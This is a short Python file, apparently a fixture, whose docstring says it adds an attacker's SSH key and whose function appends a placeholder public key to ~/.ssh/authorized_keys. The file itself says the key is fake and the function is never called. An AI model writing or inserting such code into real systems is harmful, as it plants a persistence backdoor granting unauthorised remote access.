# ruff: noqa
"""Adds an ssh key for the attacker (the key is a placeholder and the function is never called)."""

import os

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPLACEHOLDERNOTAREALKEY test@example.org"


def persist():
    path = os.path.expanduser("~/.ssh/authorized_keys")
    with open(path, "a") as fh:
        fh.write(KEY + "\n")
